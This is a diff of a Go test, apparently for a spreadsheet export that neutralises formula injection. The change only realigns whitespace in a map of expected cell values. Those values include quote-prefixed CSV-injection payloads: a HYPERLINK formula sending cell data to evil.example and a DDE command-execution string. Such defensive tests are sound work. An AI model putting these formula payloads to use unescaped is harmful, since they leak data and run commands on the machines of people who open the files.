@@ -38,10 +38,10 @@ func TestExportNeutralisesFormulas(t *testing.T) {
 	}
 	want := map[string]bool{
 		`'=HYPERLINK("https://evil.example/?d="&H3,"Open")`: false,
-		`'+cmd|' /C calc'!A0`: false,
-		`'-2+3 plain`:         false,
-		`'@SUM(1+1)*cmd`:      false,
-		`Café très bien`:      false,
+		`'+cmd|' /C calc'!A0`:                               false,
+		`'-2+3 plain`:                                       false,
+		`'@SUM(1+1)*cmd`:                                    false,
+		`Café très bien`:                                    false,
 	}
 	for _, c := range cells {
 		if _, ok := want[c]; ok {
